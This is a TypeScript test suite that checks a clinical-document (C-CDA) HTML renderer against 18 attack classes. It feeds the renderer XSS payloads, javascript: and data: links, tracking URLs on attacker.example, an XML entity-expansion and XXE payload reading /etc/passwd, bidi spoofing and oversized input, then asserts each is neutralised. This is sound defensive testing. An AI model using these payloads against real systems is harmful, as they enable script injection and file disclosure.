/**
 * The 18 attack classes of shared/references/ccda-renderers.md §8, one test each (SEC-01 … SEC-18). Each hostile
 * snippet sits in a document whose second section, "Section B", must still render (availability).
 */
import fs from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { renderDocument } from "../../../src/ccda/render-document";
import {
  cdaDocument,
  renderOk,
  section,
  structuredBody,
  warningKinds,
  type Rendered,
} from "./render-helpers";
import { invariantViolations } from "../sanitize/invariants";

const SECTION_B = section("Section B", "<paragraph>still here</paragraph>");

function attack(textXml: string, extra = "", header?: string): Rendered {
  const r = renderOk(cdaDocument(structuredBody(section("Section A", textXml, extra), SECTION_B), header));
  expect(r.root.textContent).toContain("still here");
  expect(invariantViolations(r.safe, "document")).toEqual([]);
  return r;
}

function nonXml(text: string): Rendered {
  const r = renderOk(cdaDocument(`<component><nonXMLBody>${text}</nonXMLBody></component>`));
  expect(invariantViolations(r.safe, "document")).toEqual([]);
  return r;
}

describe("security (ccda-renderers.md §8)", () => {
  it("SEC-01 drops event-handler, style, tabindex and autofocus attributes", () => {
    const r = attack(`<table onmouseover="alert(document.domain)" style="position:fixed;inset:0;opacity:0">
      <tbody><tr><td onclick="alert(1)" style="background:url(https://attacker.example/t.gif)">x</td></tr></tbody></table>
      <paragraph onfocus="alert(2)" tabindex="0" autofocus="">p</paragraph>`);
    expect(r.html).not.toMatch(/onmouseover|onclick|onfocus|style=|tabindex|autofocus/);
    expect(r.root.querySelector("td")?.textContent).toBe("x");
  });

  it("SEC-02 links only safe schemes; internal fragments are rewritten", () => {
    const r = attack(`<paragraph>
      <linkHtml href="javascript:alert(document.domain)">a</linkHtml>
      <linkHtml href="  JaVaScRiPt:alert(1)">b</linkHtml>
      <linkHtml href="jav&#x09;ascript:alert(1)">c</linkHtml>
      <linkHtml href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</linkHtml>
      <linkHtml href="vbscript:msgbox(1)">e</linkHtml>
      <linkHtml href="https://example.org/education">legit</linkHtml>
      <linkHtml href="#med-1">internal</linkHtml> <content ID="med-1">Aspirin</content></paragraph>`);
    const hrefs = Array.from(r.root.querySelectorAll(".ccda-narrative a"), (a) => a.getAttribute("href"));
    expect(hrefs).toEqual(["https://example.org/education", "#t1-med-1"]);
    expect(warningKinds(r.warnings).filter((k) => k === "unsafe-link")).toHaveLength(5);
    expect(r.root.querySelector(".ccda-narrative")?.textContent).toMatch(/a\s+b\s+c\s+d\s+e/);
  });

  it("SEC-03 never loads a nonXMLBody reference", () => {
    const r = nonXml(
      `<text mediaType="text/html"><reference value="javascript:alert(parent.document.cookie)"/></text>`,
    );
    expect(r.root.querySelector("iframe, object, embed, img, a")).toBeNull();
    expect(warningKinds(r.warnings)).toContain("external-reference");
  });

  it("SEC-04 keeps base64 HTML and SVG out of the page", () => {
    const html = nonXml(
      `<text mediaType="text/html" representation="B64">PGJvZHkgb25sb2FkPSJhbGVydChkb2N1bWVudC5kb21haW4pIj48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9ib2R5Pg==</text>`,
    );
    expect(html.outcome.attachments[0]?.mediaType).toBe("text/html");
    expect(html.root.querySelector("iframe, object, embed")).toBeNull();
    const svg = attack(
      `<renderMultiMedia referencedObject="MM9"/>`,
      `<entry><observationMedia classCode="OBS" moodCode="EVN" ID="MM9"><value mediaType="image/svg+xml" representation="B64">PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=</value></observationMedia></entry>`,
    );
    expect(svg.root.querySelector("img, svg, object")).toBeNull();
  });

  it("SEC-04b validates mediaType before building a data: URL", () => {
    const r = attack(
      `<renderMultiMedia referencedObject="MM1"/>`,
      `<entry><observationMedia ID="MM1"><value mediaType='image/png;base64,xx" onerror="alert(1)' representation="B64">iVBORw0K</value></observationMedia></entry>`,
    );
    expect(r.safe).not.toContain("onerror");
  });

  it("SEC-05 offers a PDF body as an attachment, never a plugin frame", () => {
    const r = nonXml(`<text mediaType="application/pdf" representation="B64">JVBERi0xLjQKJSVFT0YK</text>`);
    expect(r.outcome.attachments[0]?.mediaType).toBe("application/pdf");
    expect(r.root.querySelector("iframe, object, embed")).toBeNull();
  });

  it("SEC-06 makes no request for an external observationMedia reference", () => {
    const r = attack(
      `<renderMultiMedia referencedObject="MM1"/>`,
      `<entry><observationMedia classCode="OBS" moodCode="EVN" ID="MM1"><value mediaType="image/png"><reference value="https://attacker.example/p.png?doc=123"/></value></observationMedia></entry>`,
    );
    expect(r.root.querySelector("img")).toBeNull();
    expect(r.safe).not.toMatch(/src="https?:/);
  });

  it("SEC-07 does not fetch same-origin relative references", () => {
    const r = attack(
      `<renderMultiMedia referencedObject="MM2"/>`,
      `<entry><observationMedia classCode="OBS" moodCode="EVN" ID="MM2"><value mediaType="image/png"><reference value="../../api/session/logout"/></value></observationMedia></entry>`,
    );
    expect(r.root.querySelector("img")).toBeNull();
    expect(r.root.textContent).toContain("../../api/session/logout");
  });

  it("SEC-08 shows escaped markup and CDATA literally, decoding once", () => {
    const r =
      attack(`<paragraph>&lt;img src=x onerror=alert(1)&gt; and &amp;lt;script&amp;gt;alert(2)&amp;lt;/script&amp;gt;</paragraph>
      <paragraph><![CDATA[<script>alert(3)</script><script>alert(4)</script>]]></paragraph>`);
    const ps = r.root.querySelectorAll(".ccda-narrative p");
    expect(ps[0]?.textContent).toBe("<img src=x onerror=alert(1)> and &lt;script&gt;alert(2)&lt;/script&gt;");
    expect(ps[1]?.textContent).toBe("<script>alert(3)</script><script>alert(4)</script>");
    expect(r.root.querySelector(".ccda-narrative img, .ccda-narrative script")).toBeNull();
  });

  it("SEC-09 renders only v3 narrative elements; foreign ones become text", () => {
    const r = attack(`<paragraph>
      <h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>
      <h:img xmlns:h="http://www.w3.org/1999/xhtml" src="x" onerror="alert(2)"/>
      <s:svg xmlns:s="http://www.w3.org/2000/svg" onload="alert(3)"/>
      <iframe src="https://attacker.example/"/>
      <img src="https://attacker.example/x.png"/>
      <a href="relative/page">CDAr3 a</a></paragraph>`);
    const narrative = r.root.querySelector(".ccda-narrative")!;
    expect(narrative.querySelector("script, img, svg, iframe, a")).toBeNull();
    expect(narrative.textContent).toContain("alert(1)");
    expect(narrative.textContent).toContain("CDAr3 a");
  });

  it("SEC-10 cannot break out of attributes or text", () => {
    const r = attack(
      `<paragraph><content ID="x&quot; onmouseover=&quot;alert(1)" styleCode="Bold&quot; onclick=&quot;alert(2)">t</content></paragraph>`,
      "",
      `<title>&lt;/h3&gt;&lt;img src=x onerror=alert(3)&gt;</title><recordTarget><patientRole><patient><name><given>&lt;img src=x onerror=alert(4)&gt;</given><family>F</family></name></patient></patientRole></recordTarget>`,
    );
    expect(r.root.querySelector("img")).toBeNull();
    expect(r.safe).not.toMatch(/<[^>]*\son\w+=/);
    const span = r.root.querySelector(".ccda-narrative span")!;
    expect(span.id).toMatch(/^t1-[A-Za-z0-9_-]+$/);
    expect(r.outcome.title).toContain("<img src=x onerror=alert(3)>");
  });

  it("SEC-11 namespaces ids, disambiguates duplicates and maps classes through the allow-list", () => {
    const r =
      attack(`<paragraph><content ID="root">a</content> <content ID="__proto__">b</content> <content ID="documentbody">c</content>
      <content styleCode="Bold sr-only hidden">text</content></paragraph><paragraph ID="dup">1</paragraph><paragraph ID="dup">2</paragraph>`);
    const ids = Array.from(r.root.querySelectorAll("[id]"), (e) => e.id);
    expect(ids.every((id) => id.startsWith("t1-"))).toBe(true);
    expect(new Set(ids).size).toBe(ids.length);
    expect(Array.from(r.root.querySelectorAll("[class]"), (e) => e.className).join(" ")).not.toMatch(
      /sr-only|hidden/,
    );
  });

  it("SEC-12 ignores xml-stylesheet PIs", () => {
    const xml = cdaDocument(structuredBody(SECTION_B)).replace(
      "?>\n",
      '?>\n<?xml-stylesheet type="text/xsl" href="https://attacker.example/evil.xsl"?>\n',
    );
    const r = renderOk(xml);
    expect(warningKinds(r.warnings)).toContain("stylesheet-ignored");
    expect(r.safe).not.toContain("attacker.example");
  });

  it("SEC-13 rejects any DOCTYPE (entity expansion, external entities)", () => {
    const xml = `<!DOCTYPE ClinicalDocument [
  <!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
  <!ENTITY xxe SYSTEM "file:///etc/passwd">
]>${cdaDocument(structuredBody(section("A", "&c;&xxe;")))}`;
    const outcome = renderDocument(xml, { idPrefix: "x" });
    expect(outcome.ok ? "rendered" : outcome.error.kind).toBe("doctype");
  });

  // Sizes are scaled down from §8 (5,000 levels, 20,000 rows, 10,000 footnotes) because jsdom parses and
  // serialises large DOMs far more slowly than a browser; each still exceeds the renderer's caps.
  it("SEC-14 survives deep nesting, big tables and many footnotes", () => {
    const deep = "<content>".repeat(300) + "x" + "</content>".repeat(300);
    const rows = Array.from({ length: 2000 }, (_, i) => `<tr><td>r${i}</td></tr>`).join("");
    const notes = Array.from(
      { length: 500 },
      (_, i) => `<content>n<footnote ID="f${i}">fn${i}</footnote><footnoteRef IDREF="f${i}"/></content>`,
    ).join("");
    const r = attack(
      `<paragraph>${deep}</paragraph><table><tbody>${rows}</tbody></table><paragraph>${notes}</paragraph>`,
    );
    expect(r.root.querySelectorAll("td")).toHaveLength(2000);
    expect(r.root.querySelectorAll(".ccda-footnotes li")).toHaveLength(500);
    expect(r.root.querySelector("#t1-fn-500")?.textContent).toContain("fn499");
    expect(r.root.textContent).toContain("x");
    expect(r.warnings.some((w) => w.message.includes("nested deeper"))).toBe(true);
  });

  it("SEC-15 has no keyword filter: 'JavaScript' in text, titles and URLs renders normally", () => {
    const r =
      attack(`<paragraph><content title="Intro to JavaScript">Patient education: JavaScript class</content>
      <linkHtml href="https://example.org/javascript-basics.pdf">handout</linkHtml></paragraph>`);
    expect(r.root.textContent).toContain("Patient education: JavaScript class");
    expect(r.root.querySelector(".ccda-narrative a")?.getAttribute("href")).toBe(
      "https://example.org/javascript-basics.pdf",
    );
  });

  it("SEC-16 keeps bidi control characters as text (no reordering of our markup)", () => {
    const r = attack(
      `<paragraph>Name: <content>\u202Ehtims</content> end</paragraph>`,
      "",
      `<title>Doc \u202Eeltit</title>`,
    );
    expect(r.root.querySelector(".ccda-narrative p")?.textContent).toBe("Name: \u202Ehtims end");
    expect(r.outcome.title).toContain("\u202E");
  });

  it("SEC-16b isolates bidi controls in names, addresses and telecoms so they cannot reorder what follows", () => {
    const header = `<title>T</title><recordTarget><patientRole><addr><streetAddressLine>\u202E12 Main</streetAddressLine></addr><telecom value="tel:\u202E+1-555-0199"/><patient><name><given>Eve \u202E\u2069\u2067evil</given><family>Spoofer</family></name></patient></patientRole></recordTarget>`;
    const r = attack("<paragraph>x</paragraph>", "", header);
    const text = r.root.textContent;
    // Each value is wrapped in FSI … PDI; the stray PDI inside is dropped, the inner RLI closed.
    expect(text).toContain("\u2068Eve \u202E\u2067evil Spoofer\u2069\u2069");
    expect(text).toContain("\u2068\u202E12 Main\u2069");
    expect(text).toContain("\u2068\u202E+1-555-0199\u2069");
    // Plain names are left alone.
    expect(renderOk(cdaDocument(structuredBody(SECTION_B))).root.textContent).not.toContain("\u2068");
  });

  it("SEC-17 turns only tel:/mailto:/https: telecoms into links", () => {
    const header = `<title>T</title><recordTarget><patientRole><telecom value="javascript:alert(1)"/><telecom value="tel:+1-555-0100"/><telecom value="mailto:a@example.org"/><patient><name><given>A</given></name></patient></patientRole></recordTarget>`;
    const r = attack("<paragraph>x</paragraph>", "", header);
    const hrefs = Array.from(r.root.querySelectorAll("a[href]"), (a) => a.getAttribute("href") ?? "");
    expect(hrefs.some((h) => /javascript/i.test(h))).toBe(false);
    expect(r.root.textContent).toContain("javascript:alert(1)");
  });

  it("SEC-18 the pipeline has no embedding channel (no message listeners in src/)", () => {
    const srcDir = path.resolve(import.meta.dirname, "../../../src");
    const files = fs
      .readdirSync(srcDir, { recursive: true, encoding: "utf8" })
      .filter((f) => /\.tsx?$/.test(f));
    const offenders = files.filter((f) =>
      // Window-level message listeners only: a private MessageChannel port (used for yielding) is no channel
      // another frame can reach.
      /(?:^|[^.\w]|(?:window|self|globalThis)\.)addEventListener\(\s*["']message["']|(?:^|[^.\w]|(?:window|self|globalThis)\.)onmessage\s*=/m.test(
        fs.readFileSync(path.join(srcDir, f), "utf8"),
      ),
    );
    expect(offenders).toEqual([]);
  });
});
